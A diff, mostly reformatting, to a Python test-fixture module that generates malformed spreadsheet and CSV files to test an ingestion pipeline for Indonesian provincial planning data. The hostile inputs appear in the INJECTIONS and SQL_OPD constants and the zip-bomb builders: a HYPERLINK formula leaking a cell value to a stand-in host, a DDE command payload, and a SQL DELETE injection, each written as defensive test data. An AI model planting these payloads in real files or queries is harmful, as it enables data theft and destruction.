@@ -19,19 +19,58 @@ from pathlib import Path
 from typing import Any
 
 TITLE = "RENCANA KERJA (RENJA) BADAN UJI KETAHANAN DATA PROVINSI BANTEN TAHUN 2021"
-HEADER = ["KODE", "PROGRAM/KEGIATAN/SUB KEGIATAN", "INDIKATOR KINERJA", "TARGET", "SATUAN", "LOKASI",
-          "PAGU INDIKATIF (Rp)"]
+HEADER = [
+    "KODE",
+    "PROGRAM/KEGIATAN/SUB KEGIATAN",
+    "INDIKATOR KINERJA",
+    "TARGET",
+    "SATUAN",
+    "LOKASI",
+    "PAGU INDIKATIF (Rp)",
+]
 PROGRAM = ["1.06.02", "PROGRAM PEMBERDAYAAN SOSIAL", None, None, None, None, None]
-KEGIATAN = ["1.06.02.2.01", "Pemberdayaan Sosial Komunitas Adat Terpencil (KAT)", None, None, None, None, None]
-SUB1 = ["1.06.02.2.01.0001", "Pemetaan Sosial Komunitas Adat Terpencil", "Jumlah dokumen pemetaan", "12",
-        "Dokumen", "Kota Serang", 1250000000]
-SUB2 = ["1.06.02.2.01.0002", "Penyediaan Sarana Prasarana Pemberdayaan KAT", "Jumlah paket sarana", "35",
-        "Paket", "Kab. Pandeglang", 750000000]
+KEGIATAN = [
+    "1.06.02.2.01",
+    "Pemberdayaan Sosial Komunitas Adat Terpencil (KAT)",
+    None,
+    None,
+    None,
+    None,
+    None,
+]
+SUB1 = [
+    "1.06.02.2.01.0001",
+    "Pemetaan Sosial Komunitas Adat Terpencil",
+    "Jumlah dokumen pemetaan",
+    "12",
+    "Dokumen",
+    "Kota Serang",
+    1250000000,
+]
+SUB2 = [
+    "1.06.02.2.01.0002",
+    "Penyediaan Sarana Prasarana Pemberdayaan KAT",
+    "Jumlah paket sarana",
+    "35",
+    "Paket",
+    "Kab. Pandeglang",
+    750000000,
+]
 JUMLAH = [None, "JUMLAH", None, None, None, None, 2000000000]
 CODES = (SUB1[0], SUB2[0])
 
-USULAN_HEADER = ["ID USULAN", "USULAN", "PERMASALAHAN", "LOKASI", "KECAMATAN", "DESA", "VOLUME", "SATUAN",
-                 "ANGGARAN", "OPD TUJUAN"]
+USULAN_HEADER = [
+    "ID USULAN",
+    "USULAN",
+    "PERMASALAHAN",
+    "LOKASI",
+    "KECAMATAN",
+    "DESA",
+    "VOLUME",
+    "SATUAN",
+    "ANGGARAN",
+    "OPD TUJUAN",
+]
 
 
 def renja_rows(title: bool = True, tag: str = "") -> list[list[Any]]:
@@ -46,10 +85,30 @@ def renja_rows(title: bool = True, tag: str = "") -> list[list[Any]]:
 def usulan_rows(extra: list[list[Any]] | None = None) -> list[list[Any]]:
     rows = [
         list(USULAN_HEADER),
-        ["MR-0001", "Pembangunan Jalan Lingkungan", "Jalan rusak berat sepanjang 500 m", "Kp. Cibeber RT 02",
-         "Cikeusal", "Sukamaju", "500", "Meter", "250.000.000", "DPUPR"],
-        ["MR-0002", "Rehabilitasi Posyandu", "Atap bocor", "Kp. Leuwi RT 01", "Petir", "Tambiluk", "1", "Unit",
-         "75.000.000", "DINKES"],
+        [
+            "MR-0001",
+            "Pembangunan Jalan Lingkungan",
+            "Jalan rusak berat sepanjang 500 m",
+            "Kp. Cibeber RT 02",
+            "Cikeusal",
+            "Sukamaju",
+            "500",
+            "Meter",
+            "250.000.000",
+            "DPUPR",
+        ],
+        [
+            "MR-0002",
+            "Rehabilitasi Posyandu",
+            "Atap bocor",
+            "Kp. Leuwi RT 01",
+            "Petir",
+            "Tambiluk",
+            "1",
+            "Unit",
+            "75.000.000",
+            "DINKES",
+        ],
     ]
     return rows + (extra or [])
 
@@ -65,7 +124,9 @@ class SheetSpec:
     hidden: bool = False
     hidden_rows: tuple[int, ...] = ()  # 1-based
     merges: tuple[tuple[int, int, int, int, Any], ...] = ()  # 0-based r0, c0, r1, c1, value
-    formulas: dict[tuple[int, int], tuple[str, Any]] = field(default_factory=dict)  # (r, c) -> (formula, cached)
+    formulas: dict[tuple[int, int], tuple[str, Any]] = field(
+        default_factory=dict
+    )  # (r, c) -> (formula, cached)
 
 
 def write_xlsx(path: Path, sheets: list[SheetSpec], constant_memory: bool = False) -> Path:
@@ -73,8 +134,15 @@ def write_xlsx(path: Path, sheets: list[SheetSpec], constant_memory: bool = Fals
 
     path.parent.mkdir(parents=True, exist_ok=True)
     # Strings are never turned into formulas or numbers: the file holds what a planner typed.
-    wb = xlsxwriter.Workbook(str(path), {"constant_memory": constant_memory, "strings_to_formulas": False,
-                                         "strings_to_numbers": False, "strings_to_urls": False})
+    wb = xlsxwriter.Workbook(
+        str(path),
+        {
+            "constant_memory": constant_memory,
+            "strings_to_formulas": False,
+            "strings_to_numbers": False,
+            "strings_to_urls": False,
+        },
+    )
     for spec in sheets:
         ws = wb.add_worksheet(spec.name)
         for r, row in enumerate(spec.rows):
@@ -114,8 +182,9 @@ def write_xls(path: Path, rows: list[list[Any]], sheet: str = "Renja") -> Path:
     return path
 
 
-def write_csv(path: Path, rows: list[list[Any]], encoding: str = "utf-8", delimiter: str = ";",
-              bom: bytes = b"") -> Path:
+def write_csv(
+    path: Path, rows: list[list[Any]], encoding: str = "utf-8", delimiter: str = ";", bom: bytes = b""
+) -> Path:
     path.parent.mkdir(parents=True, exist_ok=True)
     text = io.StringIO()
     writer = csv.writer(text, delimiter=delimiter, lineterminator="\r\n")
@@ -211,18 +280,18 @@ def zip_lying_sizes(path: Path, unpacked_mb: int = 120) -> Path:
     cd_sig = b"PK\x01\x02"
     pos = data.find(cd_sig)
     while pos != -1:
-        name_len = int.from_bytes(data[pos + 28:pos + 30], "little")
-        extra_len = int.from_bytes(data[pos + 30:pos + 32], "little")
-        name = bytes(data[pos + 46:pos + 46 + name_len]).decode()
+        name_len = int.from_bytes(data[pos + 28 : pos + 30], "little")
+        extra_len = int.from_bytes(data[pos + 30 : pos + 32], "little")
+        name = bytes(data[pos + 46 : pos + 46 + name_len]).decode()
         if name == info.filename:
-            data[pos + 24:pos + 28] = (1024).to_bytes(4, "little")
+            data[pos + 24 : pos + 28] = (1024).to_bytes(4, "little")
             extra = pos + 46 + name_len
             end = extra + extra_len
             while extra + 4 <= end:
-                tag = int.from_bytes(data[extra:extra + 2], "little")
-                size = int.from_bytes(data[extra + 2:extra + 4], "little")
+                tag = int.from_bytes(data[extra : extra + 2], "little")
+                size = int.from_bytes(data[extra + 2 : extra + 4], "little")
                 if tag == 1 and size >= 8:  # zip64: uncompressed size first
-                    data[extra + 4:extra + 12] = (1024).to_bytes(8, "little")
+                    data[extra + 4 : extra + 12] = (1024).to_bytes(8, "little")
                 extra += 4 + size
         pos = data.find(cd_sig, pos + 4)
     path.write_bytes(bytes(data))
@@ -269,8 +338,10 @@ def encrypted_xlsx(path: Path) -> Path:
 
 
 def staged(con, file_id: str, table: str = "staged.renja", where: str = "true") -> list[dict[str, Any]]:
-    cur = con.execute(f"select * from {table} where file_id = ? and {where} order by sheet, source_row",  # noqa: S608
-                      [file_id])
+    cur = con.execute(
+        f"select * from {table} where file_id = ? and {where} order by sheet, source_row",  # noqa: S608
+        [file_id],
+    )
     names = [d[0] for d in cur.description]
     return [dict(zip(names, row, strict=True)) for row in cur.fetchall()]
 
@@ -280,8 +351,11 @@ def by_code(rows: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
 
 
 def skipped_reasons(con, file_id: str) -> dict[int, str]:
-    return dict(con.execute("select source_row, reason_code from raw.skipped_row where file_id = ?",
-                            [file_id]).fetchall())
+    return dict(
+        con.execute(
+            "select source_row, reason_code from raw.skipped_row where file_id = ?", [file_id]
+        ).fetchall()
+    )
 
 
 def expect_two_renja_rows(con, file_id: str, **_: Any) -> dict[str, dict[str, Any]]:
@@ -336,14 +410,30 @@ def _shuffled(path: Path) -> None:
 
 
 def _english(path: Path) -> None:
-    header = ["Code", "Program / Activity / Sub-activity", "Performance Indicator", "Target", "Unit", "Location",
-              "Indicative Budget (IDR)"]
+    header = [
+        "Code",
+        "Program / Activity / Sub-activity",
+        "Performance Indicator",
+        "Target",
+        "Unit",
+        "Location",
+        "Indicative Budget (IDR)",
+    ]
     renja_xlsx(path, [["WORK PLAN 2021"], [], header, SUB1, SUB2])
 
 
 def _duplicate_headers(path: Path) -> None:
     header = [*HEADER, "PAGU INDIKATIF (Rp)", "LOKASI"]
-    rows = [[TITLE], [], header, PROGRAM, KEGIATAN, [*SUB1, 999, "Desa Duplikat"], [*SUB2, 888, "Desa Kedua"], JUMLAH]
+    rows = [
+        [TITLE],
+        [],
+        header,
+        PROGRAM,
+        KEGIATAN,
+        [*SUB1, 999, "Desa Duplikat"],
+        [*SUB2, 888, "Desa Kedua"],
+        JUMLAH,
+    ]
     renja_xlsx(path, rows)
 
 
@@ -393,9 +483,18 @@ def _verify_merged(con, file_id, **_):
 
 def _hidden(path: Path) -> None:
     visible = SheetSpec("Renja", renja_rows(), hidden_rows=(7,))  # SUB2 hidden
-    hidden_data = SheetSpec("Renja Lama", [[TITLE], [], HEADER, PROGRAM, KEGIATAN,
-                                           ["1.06.02.2.01.0005", "Kegiatan Tersembunyi", "x", "1", "Paket",
-                                            "Kota Cilegon", 5000000]], hidden=True)
+    hidden_data = SheetSpec(
+        "Renja Lama",
+        [
+            [TITLE],
+            [],
+            HEADER,
+            PROGRAM,
+            KEGIATAN,
+            ["1.06.02.2.01.0005", "Kegiatan Tersembunyi", "x", "1", "Paket", "Kota Cilegon", 5000000],
+        ],
+        hidden=True,
+    )
     hidden_junk = SheetSpec("catatan", [["jangan diubah"], ["versi 3"]], hidden=True)
     write_xlsx(path, [visible, hidden_data, hidden_junk])
 
@@ -410,7 +509,11 @@ def _verify_hidden(con, file_id, **_):
 
 def _formula_errors(path: Path) -> None:
     rows = renja_rows()
-    formulas = {(5, 6): ("=#REF!*2", "#REF!"), (6, 6): ("=G6/0", "#DIV/0!"), (7, 6): ("=SUM(G6:G7)", 2000000000)}
+    formulas = {
+        (5, 6): ("=#REF!*2", "#REF!"),
+        (6, 6): ("=G6/0", "#DIV/0!"),
+        (7, 6): ("=SUM(G6:G7)", 2000000000),
+    }
     write_xlsx(path, [SheetSpec("Renja", rows, formulas=formulas)])
 
 
@@ -432,21 +535,44 @@ def _verify_usulan_text(expected_name: str, encoding: str | None = None):
         assert names.get("MR-0001") == "Pembangunan Jalan Lingkungan", names
         assert names.get("MR-0003") == expected_name, names
         if encoding:
-            got = con.execute("select encoding from raw.ingest_file where file_id = ?", [file_id]).fetchone()[0]
+            got = con.execute("select encoding from raw.ingest_file where file_id = ?", [file_id]).fetchone()[
+                0
+            ]
             assert got.replace("_", "-").lower().startswith(encoding), got
         money = {r["usulan_id"]: r["anggaran"] for r in rows}
         assert money["MR-0001"] == 250000000
+
     return verify
 
 
 def _extra_usulan(name: str) -> list[list[Any]]:
-    return [["MR-0003", name, "Banjir tiap musim hujan", "Kp. Sawah", "Cikeusal", "Sukamaju", "2", "Unit",
-             "1.500.000", "DPUPR"]]
+    return [
+        [
+            "MR-0003",
+            name,
+            "Banjir tiap musim hujan",
+            "Kp. Sawah",
+            "Cikeusal",
+            "Sukamaju",
+            "2",
+            "Unit",
+            "1.500.000",
+            "DPUPR",
+        ]
+    ]
 
 
 def _mixed_decimals(path: Path) -> None:
     subs = [
-        ["1.06.02.2.01.0011", "Format Indonesia", "x", "0,96", "Persen", "Kota Serang", "Rp 1.250.000.000,00"],
+        [
+            "1.06.02.2.01.0011",
+            "Format Indonesia",
+            "x",
+            "0,96",
+            "Persen",
+            "Kota Serang",
+            "Rp 1.250.000.000,00",
+        ],
         ["1.06.02.2.01.0012", "Format Inggris", "x", "0.96", "Persen", "Kota Serang", "1,250,000,000.00"],
         ["1.06.02.2.01.0013", "Titik ribuan", "x", "12 Titik", None, "Kota Serang", "1.250.000.000"],
         ["1.06.02.2.01.0014", "Singkatan", "x", "1.250", "Meter", "Kota Serang", "Rp1,25 M"],
@@ -457,8 +583,13 @@ def _mixed_decimals(path: Path) -> None:
 
 def _verify_mixed_decimals(con, file_id, **_):
     rows = by_code(staged(con, file_id))
-    for code in ("1.06.02.2.01.0011", "1.06.02.2.01.0012", "1.06.02.2.01.0013", "1.06.02.2.01.0014",
-                 "1.06.02.2.01.0015"):
+    for code in (
+        "1.06.02.2.01.0011",
+        "1.06.02.2.01.0012",
+        "1.06.02.2.01.0013",
+        "1.06.02.2.01.0014",
+        "1.06.02.2.01.0015",
+    ):
         assert rows[code]["pagu"] == 1250000000, (code, rows[code]["pagu_raw"], rows[code]["pagu"])
     assert rows["1.06.02.2.01.0011"]["target"] == 0.96 and rows["1.06.02.2.01.0012"]["target"] == 0.96
     assert rows["1.06.02.2.01.0013"]["target"] == 12 and rows["1.06.02.2.01.0013"]["satuan"] == "Titik"
@@ -484,8 +615,20 @@ EMOJI_NAME = "Pembangunan 🚧 Jalan\x07 Desa\x00 Sukamaju ✅"
 
 def _emoji(path: Path) -> None:
     # Ordinary rows around it: a control character is rare in a real export, not the bulk of it.
-    rows = usulan_rows(_extra_usulan("Sumur Bor") * 3) + [["MR-0009", EMOJI_NAME, "Jalan\x0b rusak 😢", "Kp. \x1bBaru", "Cikeusal",
-                                      "Sukamaju", "1", "Paket", "10.000.000", "DPUPR"]]
+    rows = usulan_rows(_extra_usulan("Sumur Bor") * 3) + [
+        [
+            "MR-0009",
+            EMOJI_NAME,
+            "Jalan\x0b rusak 😢",
+            "Kp. \x1bBaru",
+            "Cikeusal",
+            "Sukamaju",
+            "1",
+            "Paket",
+            "10.000.000",
+            "DPUPR",
+        ]
+    ]
     write_csv(path, rows, delimiter=";")
 
 
@@ -496,12 +639,19 @@ def _verify_emoji(con, file_id, **_):
     assert row["usulan"].startswith("Pembangunan 🚧 Jalan")
 
 
-INJECTIONS = ('=HYPERLINK("http://contoh.invalid/?x="&A1,"klik di sini")', "+62 812 3456", "-Jalan Baru",
-              "@SUM(1+1)*cmd|' /C calc'!A0")
+INJECTIONS = (
+    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik di sini")',
+    "+62 812 3456",
+    "-Jalan Baru",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
 
 
 def _injection_xlsx(path: Path) -> None:
-    subs = [[f"1.06.02.2.01.00{30 + i}", text, text, "1", "Paket", text, 1000000] for i, text in enumerate(INJECTIONS)]
+    subs = [
+        [f"1.06.02.2.01.00{30 + i}", text, text, "1", "Paket", text, 1000000]
+        for i, text in enumerate(INJECTIONS)
+    ]
     renja_xlsx(path, [[TITLE], [], HEADER, PROGRAM, KEGIATAN, *subs])
 
 
@@ -512,8 +662,10 @@ def _verify_injection_xlsx(con, file_id, **_):
 
 
 def _injection_csv(path: Path) -> None:
-    extra = [[f"MR-01{i}", text, text, text, "Cikeusal", "Sukamaju", "1", "Paket", "1.000.000", "DPUPR"]
-             for i, text in enumerate(INJECTIONS)]
+    extra = [
+        [f"MR-01{i}", text, text, text, "Cikeusal", "Sukamaju", "1", "Paket", "1.000.000", "DPUPR"]
+        for i, text in enumerate(INJECTIONS)
+    ]
     write_csv(path, [list(USULAN_HEADER), *extra], delimiter=",")
 
 
@@ -528,8 +680,16 @@ SQL_OPD = "x' OR '1'='1'; DELETE FROM raw.ingest_file; --"
 
 
 def _sql_names(path: Path) -> None:
-    rows = [[f"RENCANA KERJA {SQL_OPD} TAHUN 2021"], [], [*HEADER, "OPD"], PROGRAM, KEGIATAN,
-            [*SUB1[:1], SQL_TEXT, *SUB1[2:], SQL_OPD], [*SUB2, SQL_OPD], JUMLAH]
+    rows = [
+        [f"RENCANA KERJA {SQL_OPD} TAHUN 2021"],
+        [],
+        [*HEADER, "OPD"],
+        PROGRAM,
+        KEGIATAN,
+        [*SUB1[:1], SQL_TEXT, *SUB1[2:], SQL_OPD],
+        [*SUB2, SQL_OPD],
+        JUMLAH,
+    ]
     write_xlsx(path, [SheetSpec(SQL_SHEET, rows)])
 
 
@@ -538,7 +698,9 @@ def _verify_sql_names(con, file_id, **_):
     assert rows[SUB1[0]]["nama"] == SQL_TEXT and rows[SUB1[0]]["opd"] == SQL_OPD
     assert rows[SUB1[0]]["sheet"] == SQL_SHEET
     assert rows[SUB1[0]]["row_ref"].endswith(f":{SQL_SHEET}:6")
-    assert con.execute("select count(*) from raw.ingest_file").fetchone()[0] >= 1  # nothing dropped or deleted
+    assert (
+        con.execute("select count(*) from raw.ingest_file").fetchone()[0] >= 1
+    )  # nothing dropped or deleted
 
 
 def _verify_name(con, file_id, source_file: str, **_):
@@ -549,9 +711,24 @@ def _verify_name(con, file_id, source_file: str, **_):
 
 
 def _ragged(path: Path) -> None:
-    rows = [list(USULAN_HEADER), ["MR-0001", "Pembangunan Jalan Lingkungan", "Rusak", "Kp. A", "Cikeusal", "Sukamaju",
-                                  "1", "Paket", "1.000.000", "DPUPR", "sisa 1", "sisa 2"],
-            ["MR-0002", "Rehabilitasi Posyandu", "Bocor"]]
+    rows = [
+        list(USULAN_HEADER),
+        [
+            "MR-0001",
+            "Pembangunan Jalan Lingkungan",
+            "Rusak",
+            "Kp. A",
+            "Cikeusal",
+            "Sukamaju",
+            "1",
+            "Paket",
+            "1.000.000",
+            "DPUPR",
+            "sisa 1",
+            "sisa 2",
+        ],
+        ["MR-0002", "Rehabilitasi Posyandu", "Bocor"],
+    ]
     write_csv(path, rows, delimiter=";")
 
 
@@ -568,8 +745,9 @@ def _nul_csv(path: Path) -> None:
 
 def _html_export(path: Path) -> None:
     path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_text("<html><body><table><tr><td>KODE</td><td>PROGRAM</td></tr></table></body></html>",
-                    encoding="utf-8")
+    path.write_text(
+        "<html><body><table><tr><td>KODE</td><td>PROGRAM</td></tr></table></body></html>", encoding="utf-8"
+    )
 
 
 def _docx(path: Path) -> None:
@@ -588,12 +766,20 @@ def _write_bytes(data: bytes) -> Callable[[Path], None]:
     def build(path: Path) -> None:
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(data)
+
     return build
 
 
 def _missing_required(path: Path) -> None:
-    renja_xlsx(path, [[TITLE], [], ["INDIKATOR KINERJA", "TARGET", "SATUAN", "LOKASI", "PAGU INDIKATIF"],
-                      ["Jumlah dokumen", "12", "Dokumen", "Kota Serang", 1000000]])
+    renja_xlsx(
+        path,
+        [
+            [TITLE],
+            [],
+            ["INDIKATOR KINERJA", "TARGET", "SATUAN", "LOKASI", "PAGU INDIKATIF"],
+            ["Jumlah dokumen", "12", "Dokumen", "Kota Serang", 1000000],
+        ],
+    )
 
 
 def _top_level_unknown(path: Path) -> None:
@@ -611,69 +797,201 @@ CASES: list[Case] = [
     Case("random_bytes_xlsx", "renja/acak.xlsx", garbage, "failed", "corrupt_file"),
     Case("broken_sheet_xml", "renja/xml_rusak.xlsx", broken_sheet_xml, "failed", "corrupt_file"),
     Case("zip_bomb", "renja/bom_zip.xlsx", zip_bomb, "failed", "zip_bomb"),
-    Case("zip_bomb_absolute_size", "renja/bom_zip_besar.xlsx", lambda p: zip_bomb(p, 30), "failed", "zip_bomb",
-         settings={"max_unzipped_mb": 10, "max_zip_ratio": 1e9}, in_corpus_run=False),
+    Case(
+        "zip_bomb_absolute_size",
+        "renja/bom_zip_besar.xlsx",
+        lambda p: zip_bomb(p, 30),
+        "failed",
+        "zip_bomb",
+        settings={"max_unzipped_mb": 10, "max_zip_ratio": 1e9},
+        in_corpus_run=False,
+    ),
     Case("zip_bomb_lying_header", "renja/bom_zip_bohong.xlsx", zip_lying_sizes, "failed", "corrupt_file"),
-    Case("encrypted_xlsx", "renja/renja_berpassword.xlsx", encrypted_xlsx, "failed", "encrypted_file",
-         words=("kata sandi",)),
+    Case(
+        "encrypted_xlsx",
+        "renja/renja_berpassword.xlsx",
+        encrypted_xlsx,
+        "failed",
+        "encrypted_file",
+        words=("kata sandi",),
+    ),
     Case("empty_xlsx", "renja/kosong.xlsx", _write_bytes(b""), "failed", "empty_file"),
     # Same bytes as empty_xlsx: kept out of the combined run (see the test of identical refused files).
-    Case("empty_csv", "musrenbang/kosong.csv", _write_bytes(b""), "failed", "empty_file", in_corpus_run=False),
-    Case("blank_lines_csv", "musrenbang/hanya_baris_kosong.csv", _write_bytes(b";;;;\r\n;;;;\r\n\r\n"), "failed",
-         "empty_file"),
-    Case("title_only", "renja/hanya_judul.xlsx", lambda p: renja_xlsx(p, [[TITLE]]), "failed", "no_header",
-         words=("KODE",)),
+    Case(
+        "empty_csv", "musrenbang/kosong.csv", _write_bytes(b""), "failed", "empty_file", in_corpus_run=False
+    ),
+    Case(
+        "blank_lines_csv",
+        "musrenbang/hanya_baris_kosong.csv",
+        _write_bytes(b";;;;\r\n;;;;\r\n\r\n"),
+        "failed",
+        "empty_file",
+    ),
+    Case(
+        "title_only",
+        "renja/hanya_judul.xlsx",
+        lambda p: renja_xlsx(p, [[TITLE]]),
+        "failed",
+        "no_header",
+        words=("KODE",),
+    ),
     Case("english_headers", "renja/english_workplan.xlsx", _english, "failed", "no_header", words=("KODE",)),
-    Case("required_column_missing", "renja/tanpa_kode_nama.xlsx", _missing_required, "failed",
-         "required_column_missing|no_header", words=("KODE",)),
+    Case(
+        "required_column_missing",
+        "renja/tanpa_kode_nama.xlsx",
+        _missing_required,
+        "failed",
+        "required_column_missing|no_header",
+        words=("KODE",),
+    ),
     Case("html_named_xls", "renja/ekspor_web.xls", _html_export, "failed", "unsupported_format"),
     Case("word_named_xlsx", "renja/dokumen.xlsx", _docx, "failed", "unsupported_format"),
     Case("pdf", "renja/renja.pdf", _pdf, "failed", "unsupported_format"),
     Case("binary_csv", "musrenbang/biner.csv", lambda p: garbage(p, seed=8), "failed", "corrupt_file"),
-    Case("too_large", "renja/terlalu_besar.xlsx", renja_xlsx, "failed", "file_too_large",
-         settings={"max_file_mb": 0.001}, in_corpus_run=False),
-    Case("top_level_unknown", "daftar_belanja.csv", _top_level_unknown, "failed", "no_header|unknown_kind",
-         words=("KODE",)),
+    Case(
+        "too_large",
+        "renja/terlalu_besar.xlsx",
+        renja_xlsx,
+        "failed",
+        "file_too_large",
+        settings={"max_file_mb": 0.001},
+        in_corpus_run=False,
+    ),
+    Case(
+        "top_level_unknown",
+        "daftar_belanja.csv",
+        _top_level_unknown,
+        "failed",
+        "no_header|unknown_kind",
+        words=("KODE",),
+    ),
     # --- loaded, whatever their shape ---------------------------------------------------------
-    Case("xls_renamed_xlsx", "renja/lama_dinamai_xlsx.xlsx", lambda p: write_xls(p, renja_rows(tag=p.name)), "loaded",
-         verify=expect_two_renja_rows),
-    Case("real_xls", "renja/renja_lama.xls", lambda p: write_xls(p, renja_rows(tag=p.name)), "loaded",
-         verify=expect_two_renja_rows),
+    Case(
+        "xls_renamed_xlsx",
+        "renja/lama_dinamai_xlsx.xlsx",
+        lambda p: write_xls(p, renja_rows(tag=p.name)),
+        "loaded",
+        verify=expect_two_renja_rows,
+    ),
+    Case(
+        "real_xls",
+        "renja/renja_lama.xls",
+        lambda p: write_xls(p, renja_rows(tag=p.name)),
+        "loaded",
+        verify=expect_two_renja_rows,
+    ),
     Case("top_level_renja", "renja_tanpa_folder.xlsx", renja_xlsx, "loaded", verify=expect_two_renja_rows),
     Case("shuffled_headers", "renja/kolom_diacak.xlsx", _shuffled, "loaded", verify=_verify_shuffled),
-    Case("duplicate_headers", "renja/header_ganda.xlsx", _duplicate_headers, "loaded",
-         verify=_verify_duplicate_headers),
+    Case(
+        "duplicate_headers",
+        "renja/header_ganda.xlsx",
+        _duplicate_headers,
+        "loaded",
+        verify=_verify_duplicate_headers,
+    ),
     Case("wide_1000_columns", "renja/seribu_kolom.xlsx", _wide, "loaded", verify=_verify_wide),
     Case("merged_cells", "renja/sel_gabung.xlsx", _merged, "loaded", verify=_verify_merged),
     Case("hidden_sheets_rows", "renja/lembar_tersembunyi.xlsx", _hidden, "loaded", verify=_verify_hidden),
-    Case("formula_errors", "renja/rumus_error.xlsx", _formula_errors, "loaded", verify=_verify_formula_errors,
-         quarantined_codes=(SUB1[0], SUB2[0])),
-    Case("cp1252_csv", "musrenbang/usulan_cp1252.csv",
-         lambda p: write_csv(p, usulan_rows(_extra_usulan(_CP1252_NAME)), encoding="cp1252"), "loaded",
-         verify=_verify_usulan_text(_CP1252_NAME, "cp1252"), table="staged.usulan"),
-    Case("utf16_csv", "musrenbang/usulan_utf16.csv",
-         lambda p: write_csv(p, usulan_rows(_extra_usulan("Irigasi Ṣawah 水")), encoding="utf-16-le",
-                             delimiter="\t", bom=b"\xff\xfe"), "loaded",
-         verify=_verify_usulan_text("Irigasi Ṣawah 水", "utf-16"), table="staged.usulan"),
-    Case("utf16_csv_no_bom", "musrenbang/usulan_utf16_tanpa_bom.csv",
-         lambda p: write_csv(p, usulan_rows(_extra_usulan("Drainase")), encoding="utf-16-le", delimiter="\t"),
-         "loaded", verify=_verify_usulan_text("Drainase"), table="staged.usulan"),
-    Case("utf8_bom_csv", "musrenbang/usulan_bom.csv",
-         lambda p: write_csv(p, usulan_rows(_extra_usulan("Talud Penahan Tanah")), bom=b"\xef\xbb\xbf"), "loaded",
-         verify=_verify_usulan_text("Talud Penahan Tanah"), table="staged.usulan"),
-    Case("nul_bytes_csv", "musrenbang/usulan_nul.csv", _nul_csv, "loaded",
-         verify=_verify_usulan_text("Sumur Bor"), table="staged.usulan"),
-    Case("ragged_csv", "musrenbang/usulan_kolom_berlebih.csv", _ragged, "loaded", verify=_verify_ragged,
-         table="staged.usulan"),
-    Case("mixed_decimals", "renja/desimal_campur.xlsx", _mixed_decimals, "loaded", verify=_verify_mixed_decimals),
-    Case("text_in_number_columns", "renja/teks_di_kolom_angka.xlsx", _text_in_numbers, "loaded",
-         verify=_verify_text_in_numbers, quarantined_codes=(TEXT_IN_NUMBER,)),
-    Case("emoji_control_chars", "musrenbang/usulan_emoji.csv", _emoji, "loaded", verify=_verify_emoji,
-         table="staged.usulan"),
-    Case("formula_injection_xlsx", "renja/injeksi_rumus.xlsx", _injection_xlsx, "loaded",
-         verify=_verify_injection_xlsx),
-    Case("formula_injection_csv", "pokir/injeksi_rumus.csv", _injection_csv, "loaded", verify=_verify_injection_csv,
-         table="staged.usulan"),
+    Case(
+        "formula_errors",
+        "renja/rumus_error.xlsx",
+        _formula_errors,
+        "loaded",
+        verify=_verify_formula_errors,
+        quarantined_codes=(SUB1[0], SUB2[0]),
+    ),
+    Case(
+        "cp1252_csv",
+        "musrenbang/usulan_cp1252.csv",
+        lambda p: write_csv(p, usulan_rows(_extra_usulan(_CP1252_NAME)), encoding="cp1252"),
+        "loaded",
+        verify=_verify_usulan_text(_CP1252_NAME, "cp1252"),
+        table="staged.usulan",
+    ),
+    Case(
+        "utf16_csv",
+        "musrenbang/usulan_utf16.csv",
+        lambda p: write_csv(
+            p,
+            usulan_rows(_extra_usulan("Irigasi Ṣawah 水")),
+            encoding="utf-16-le",
+            delimiter="\t",
+            bom=b"\xff\xfe",
+        ),
+        "loaded",
+        verify=_verify_usulan_text("Irigasi Ṣawah 水", "utf-16"),
+        table="staged.usulan",
+    ),
+    Case(
+        "utf16_csv_no_bom",
+        "musrenbang/usulan_utf16_tanpa_bom.csv",
+        lambda p: write_csv(p, usulan_rows(_extra_usulan("Drainase")), encoding="utf-16-le", delimiter="\t"),
+        "loaded",
+        verify=_verify_usulan_text("Drainase"),
+        table="staged.usulan",
+    ),
+    Case(
+        "utf8_bom_csv",
+        "musrenbang/usulan_bom.csv",
+        lambda p: write_csv(p, usulan_rows(_extra_usulan("Talud Penahan Tanah")), bom=b"\xef\xbb\xbf"),
+        "loaded",
+        verify=_verify_usulan_text("Talud Penahan Tanah"),
+        table="staged.usulan",
+    ),
+    Case(
+        "nul_bytes_csv",
+        "musrenbang/usulan_nul.csv",
+        _nul_csv,
+        "loaded",
+        verify=_verify_usulan_text("Sumur Bor"),
+        table="staged.usulan",
+    ),
+    Case(
+        "ragged_csv",
+        "musrenbang/usulan_kolom_berlebih.csv",
+        _ragged,
+        "loaded",
+        verify=_verify_ragged,
+        table="staged.usulan",
+    ),
+    Case(
+        "mixed_decimals",
+        "renja/desimal_campur.xlsx",
+        _mixed_decimals,
+        "loaded",
+        verify=_verify_mixed_decimals,
+    ),
+    Case(
+        "text_in_number_columns",
+        "renja/teks_di_kolom_angka.xlsx",
+        _text_in_numbers,
+        "loaded",
+        verify=_verify_text_in_numbers,
+        quarantined_codes=(TEXT_IN_NUMBER,),
+    ),
+    Case(
+        "emoji_control_chars",
+        "musrenbang/usulan_emoji.csv",
+        _emoji,
+        "loaded",
+        verify=_verify_emoji,
+        table="staged.usulan",
+    ),
+    Case(
+        "formula_injection_xlsx",
+        "renja/injeksi_rumus.xlsx",
+        _injection_xlsx,
+        "loaded",
+        verify=_verify_injection_xlsx,
+    ),
+    Case(
+        "formula_injection_csv",
+        "pokir/injeksi_rumus.csv",
+        _injection_csv,
+        "loaded",
+        verify=_verify_injection_csv,
+        table="staged.usulan",
+    ),
     Case("sql_in_sheet_and_cells", "renja/sql_lembar.xlsx", _sql_names, "loaded", verify=_verify_sql_names),
     Case("name_spaces_quotes", SPACES_QUOTES, renja_xlsx, "loaded", verify=_verify_name),
     Case("name_non_latin", NON_LATIN, renja_xlsx, "loaded", verify=_verify_name),
@@ -704,14 +1022,21 @@ def million_rows_csv(path: Path, rows: int = 1_000_000) -> int:
     stream; returns the number of physical lines (header included)."""
     path.parent.mkdir(parents=True, exist_ok=True)
     kec = ["Cikeusal", "Petir", "Walantaka", "Curug", "Ciruas", "Kragilan"]
-    works = ["Pembangunan Jalan Lingkungan", "Rehabilitasi Posyandu", "Pembangunan Drainase", "Pengadaan Alat Tani"]
+    works = [
+        "Pembangunan Jalan Lingkungan",
+        "Rehabilitasi Posyandu",
+        "Pembangunan Drainase",
+        "Pengadaan Alat Tani",
+    ]
